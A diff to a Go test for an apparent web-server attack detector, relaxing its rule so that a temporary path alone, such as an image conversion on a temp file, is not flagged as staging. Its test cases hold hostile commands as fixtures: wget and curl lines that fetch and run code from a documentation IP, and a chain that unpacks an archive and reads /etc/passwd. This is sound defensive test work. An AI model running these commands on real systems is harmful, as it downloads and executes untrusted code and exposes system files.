@@ -34,8 +34,9 @@ func TestRunsFetched(t *testing.T) {
 	}
 }
 
-// TestStagingOnly: a web server's fetch or unpack needs corroboration; the
-// same with a sign of intent, or running what it fetched, does not.
+// TestStagingOnly: a web server's fetch or unpack, or a command whose only
+// sign is a temporary path, needs corroboration; the same with a sign of
+// intent, or running what it fetched, does not.
 func TestStagingOnly(t *testing.T) {
 	for _, c := range []struct {
 		cmd  string
@@ -48,7 +49,11 @@ func TestStagingOnly(t *testing.T) {
 		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false},
 		{"curl -s http://198.51.100.7/x | sh", false},
 		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false},
-		{"ls /tmp/", false}, // a temp path alone is no staging either: it shows intent as before
+		// a temp path alone shows nothing by itself: tempnam() gives every
+		// application one (benign-news: convert, gs on temp files)
+		{"ls /tmp/", true},
+		{"convert '/tmp/nrimgwGqaJO' -thumbnail 320x320 '/var/www/news/media/thumbs/a.jpg' 2>&1", true},
+		{"ls /tmp/; id", false},
 	} {
 		s := newSynth()
 		e, err := New(Options{})
